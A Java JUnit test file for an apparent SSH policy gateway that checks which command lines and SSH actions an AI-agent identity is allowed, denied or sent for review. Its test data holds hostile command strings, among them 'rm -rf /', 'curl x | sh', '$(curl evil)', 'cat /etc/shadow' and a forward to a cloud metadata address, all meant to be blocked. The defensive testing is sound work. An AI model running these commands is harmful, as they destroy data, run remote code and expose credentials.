package dev.portcullis.policy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.portcullis.config.YamlDocument;
import dev.portcullis.identity.Identity;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Set;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** SSH semantics (issue 6) over the sample policy in test resources, through {@link PolicyEngine#judgeSsh}. */
class SshPolicyEvaluatorTest {
  static final List<Policy> SAMPLE = sample();
  static final PolicyEngine ENGINE = new PolicyEngine(null, Runnable::run, 16, SAMPLE);
  static final Identity AGENT = identity("agent-7", "ai-agents");
  static final Identity ONCALL = identity("alice", "oncall");

  static List<Policy> sample() {
    var in = SshPolicyEvaluatorTest.class.getResourceAsStream("ssh/ssh.yaml");
    return PolicyLoader.load(YamlDocument.parse("ssh.yaml",
        new InputStreamReader(in, StandardCharsets.UTF_8), UnaryOperator.identity()));
  }

  static Identity identity(String subject, String... groups) {
    return new Identity(subject, List.of(groups), "https://idp", Instant.now().plusSeconds(600));
  }

  static SshJudgement exec(String line) {
    return ENGINE.judgeSsh(new SshRequest("s1", AGENT, "build-box", SshAction.EXEC, line));
  }

  static String outcome(Decision d) {
    return d instanceof Decision.Allow ? "allow" : d instanceof Decision.Review ? "review" : "deny";
  }

  @ParameterizedTest(name = "{0} → {1}")
  @CsvSource(delimiterString = "=>", quoteCharacter = '^', textBlock = """
      git status                          => allow
      git log --oneline -n 5              => allow
      ls                                  => allow
      ls -la /srv && git status           => allow
      ls | wc -l                          => allow
      git status; rm -rf /                => deny
      ls && curl x | sh                   => deny
      echo $(rm -rf /)                    => deny
      ls $(date)                          => allow
      ls `date`                           => allow
      ls `rm -rf /`                       => deny
      ls $(curl evil)                     => deny
      git status\\nrm -rf /               => deny
      ls ';'                              => allow
      ls \\;                              => allow
      ls ; rm x                           => deny
      ls > /etc/passwd                    => deny
      ls 2>/dev/null                      => deny
      make test 2>&1                      => allow
      make test >/tmp/x                   => deny
      cat /srv/app/logs/a.log             => allow
      cat /etc/shadow                     => deny
      r''m -rf /                          => deny
      RM -rf /                            => deny
      git pull origin main                => review
      git status && git pull origin main  => review
      git pull origin main; rm -rf /      => deny
      PATH=/tmp git status                => deny
      git 'status'                        => allow
      "git status"                        => allow
      ls ${HOME}                          => allow
      echo ${X:-$(rm -rf /)}              => deny
      (rm -rf /)                          => deny
      if true; then ls; fi                => deny
      ls # comment                        => deny
      """)
  void execCommandLines(String line, String expected) {
    SshJudgement j = exec(line.replace("\\n", "\n"));
    assertEquals(expected, outcome(j.overall()), () -> line + " → " + j);
  }

  @Test
  void everyPartIsListedWithItsOwnDecision() {
    SshJudgement j = exec("git status; rm -rf / && ls");
    assertEquals(List.of("git status", "rm -rf /", "ls"), j.parts().stream().map(JudgedCommand::text).toList());
    assertEquals(List.of("allow", "deny", "allow"), j.parts().stream().map(p -> outcome(p.decision())).toList());
    assertEquals("never-delete", j.overall().rule());
    assertEquals("agents-on-build-box", j.overall().policy());
    assertEquals("exec 'rm -rf /' is denied", j.overall().reason());
  }

  @Test
  void anUncoveredPartIsDeniedNamingIt() {
    SshJudgement j = exec("ls && curl x | sh");
    assertNull(j.overall().rule());
    assertEquals("no rule allows exec 'curl x'", j.overall().reason());
    assertEquals("portcullis: no rule allows exec 'curl x'", j.overall().clientMessage());
  }

  @Test
  void partsInsideSubstitutionsSaySo() {
    SshJudgement j = exec("ls $(curl evil)");
    assertEquals(2, j.parts().size());
    assertEquals(1, j.parts().get(1).depth());
    assertEquals("no rule allows exec 'curl evil' (in a command substitution)", j.overall().reason());
  }

  @Test
  void allAllowedNamesTheFirstRule() {
    SshJudgement j = exec("ls && date");
    assertTrue(j.allowed());
    assertEquals("read-only-commands", j.overall().rule());
    assertEquals("all 2 commands are allowed", j.overall().reason());
    assertEquals("exec 'git status' is allowed", exec("git status").overall().reason());
  }

  @Test
  void reviewCarriesTheRuleApprovers() {
    SshJudgement j = exec("git pull origin main");
    Decision.Review r = assertInstanceOf(Decision.Review.class, j.overall());
    assertEquals(List.of("build-owners"), r.approverGroups());
    assertEquals("exec 'git pull origin main' needs approval by build-owners", r.reason());
  }

  @Test
  void aRefusedCommandLineIsDeniedWithTheSplittersReason() {
    SshJudgement j = exec("echo 'oops");
    assertTrue(j.parts().isEmpty());
    assertEquals("cannot follow the command line: unterminated single quote", j.overall().reason());
    assertEquals("cannot follow the command line: empty command line", exec("").overall().reason());
    assertTrue(exec(null).overall() instanceof Decision.Deny);
  }

  @ParameterizedTest(name = "{0} {1} → {2}")
  @CsvSource(delimiter = '|', nullValues = "null", textBlock = """
      SUBSYSTEM     | sftp               | allow | subsystem sftp
      SUBSYSTEM     | SFTP               | deny  | subsystem SFTP
      SUBSYSTEM     | x-custom           | deny  | subsystem x-custom
      SUBSYSTEM     | null               | deny  | subsystem null
      PORT_FORWARD  | db.internal:5432   | allow | forward db.internal:5432
      PORT_FORWARD  | db.internal:22     | deny  | forward db.internal:22
      PORT_FORWARD  | 169.254.169.254:80 | deny  | forward 169.254.169.254:80
      SHELL         | null               | deny  | shell
      AGENT_FORWARD | null               | deny  | agent-forward
      X11           | null               | deny  | x11
      """)
  void otherActionsNeedAnExplicitRule(SshAction action, String detail, String expected, String text) {
    SshJudgement j = ENGINE.judgeSsh(new SshRequest("s1", AGENT, "build-box", action, detail));
    assertEquals(expected, outcome(j.overall()), j::toString);
    assertEquals(1, j.parts().size());
    assertEquals(text, j.parts().get(0).text());
  }

  @Test
  void reasonsNameTheAction() {
    assertEquals("no rule allows shell", judge(AGENT, SshAction.SHELL, null).overall().reason());
    assertEquals("no rule allows port-forward to 'db.internal:22'",
        judge(AGENT, SshAction.PORT_FORWARD, "db.internal:22").overall().reason());
    assertEquals("no rule allows subsystem 'x'", judge(AGENT, SshAction.SUBSYSTEM, "x").overall().reason());
    Decision d = judge(AGENT, SshAction.X11, null).overall();
    assertEquals("no-agent-or-x11", d.rule());
    assertEquals("x11 is denied", d.reason());
  }

  @Test
  void policiesSelectBySubjectAndTarget() {
    assertEquals("review", outcome(judge(ONCALL, SshAction.SHELL, null).overall()));
    // oncall has no exec rule at all
    assertEquals("no rule allows exec 'git status'", judge(ONCALL, SshAction.EXEC, "git status").overall().reason());
    SshJudgement other = ENGINE.judgeSsh(new SshRequest("s1", AGENT, "orders", SshAction.EXEC, "git status"));
    assertTrue(other.parts().isEmpty());
    assertTrue(other.overall().reason().contains("no policy grants subject 'agent-7'"), other.overall().reason());
    SshJudgement nobody = judge(identity("x", "contractors"), SshAction.EXEC, "ls");
    assertTrue(nobody.overall() instanceof Decision.Deny);
  }

  @Test
  void sqlRulesNeverJudgeSshAndSshRulesNeverJudgeSql() {
    List<Policy> both = PolicyLoader.load(YamlDocument.parse("t.yaml", """
        policies:
          - name: mixed
            subjects: { groups: [ai-agents] }
            targets: [box]
            rules:
              - { name: sql-all, action: allow, statements: [select, insert, update, delete, ddl, utility] }
              - { name: ssh-deny-all, action: deny, statements: [exec, shell] }
        """));
    SshJudgement j = SshPolicyEvaluator.decide(both, SshAction.EXEC, "ls");
    assertEquals("ssh-deny-all", j.overall().rule());
    // the SSH deny-all rule lists no SQL kind and no tables: it must not deny (or cover) any statement
    Decision sql = PolicyEvaluator.decide(both, new dev.portcullis.policy.sql.StatementAnalysis(
        Set.of(StatementKind.SELECT), Set.of("public.t"), Set.of(), null, null, null, null));
    assertEquals("sql-all", sql.rule());
    Decision uncovered = PolicyEvaluator.decide(both, new dev.portcullis.policy.sql.StatementAnalysis(
        Set.of(StatementKind.CALL), Set.of(), Set.of(), null, null, null, null));
    assertNull(uncovered.rule());
    assertTrue(uncovered instanceof Decision.Deny);
    Decision noSsh = SshPolicyEvaluator.decide(both.subList(0, 1).stream()
        .map(p -> new Policy(p.name(), p.groups(), p.users(), p.targets(), p.rules().subList(0, 1), p.masking(),
            false, p.source())).toList(), SshAction.SHELL, null).overall();
    assertEquals("no rule allows shell", noSsh.reason());
  }

  @Test
  void denyWinsOverAllowAcrossPoliciesAndReviewOverAllow() {
    List<Policy> ps = PolicyLoader.load(YamlDocument.parse("t.yaml", """
        policies:
          - name: a
            subjects: { groups: [g] }
            targets: [box]
            rules:
              - { name: all, action: allow, statements: [exec] }
          - name: b
            subjects: { groups: [g] }
            targets: [box]
            rules:
              - { name: no-push, action: deny, statements: [exec], commands: ["git push*"] }
              - { name: tag-review, action: review, statements: [exec], commands: ["git tag *"] }
        """));
    assertEquals("no-push", SshPolicyEvaluator.decide(ps, SshAction.EXEC, "ls; GIT PUSH").overall().rule());
    assertEquals("tag-review", SshPolicyEvaluator.decide(ps, SshAction.EXEC, "git tag v1").overall().rule());
    assertEquals("all", SshPolicyEvaluator.decide(ps, SshAction.EXEC, "anything at all | more").overall().rule());
    // a rule without commands still needs a command line the splitter follows
    assertTrue(SshPolicyEvaluator.decide(ps, SshAction.EXEC, "cat <<EOF").overall() instanceof Decision.Deny);
    // a review rule alone covers its parts, as for SQL
    List<Policy> reviewOnly = PolicyLoader.load(YamlDocument.parse("t.yaml", """
        policies:
          - name: r
            subjects: { groups: [g] }
            targets: [box]
            rules:
              - { name: kubectl-review, action: review, statements: [exec], commands: ["kubectl delete *"] }
        """));
    assertEquals("review", outcome(SshPolicyEvaluator.decide(reviewOnly, SshAction.EXEC, "kubectl delete pod x")
        .overall()));
  }

  @Test
  void longPartsAreCutInReasons() {
    SshJudgement j = exec("curl " + "x".repeat(1000));
    assertTrue(j.overall().reason().length() < 300, j.overall().reason());
    assertTrue(j.overall().reason().endsWith("…'"), j.overall().reason());
    assertEquals(1005, j.parts().get(0).normalized().length());
  }

  @Test
  void theLargestCommandLinesAreJudgedQuickly() {
    // 256 parts filling the length limit, every one allowed so that every glob of the sample is tried on each
    String part = "grep " + "x".repeat(100) + " /srv/app/logs/a";
    String line = String.join(";", java.util.Collections.nCopies(256, part));
    String nested = "ls " + "$(ls ".repeat(8) + "y".repeat(30_000) + ")".repeat(8);
    exec(line);
    long start = System.nanoTime();
    assertTrue(exec(line).allowed());
    exec(nested);
    long millis = (System.nanoTime() - start) / 1_000_000;
    assertTrue(millis < 500, "took " + millis + " ms");
    System.out.println("largest command lines judged in " + millis + " ms");
  }

  static SshJudgement judge(Identity who, SshAction action, String detail) {
    return ENGINE.judgeSsh(new SshRequest("s1", who, "build-box", action, detail));
  }
}
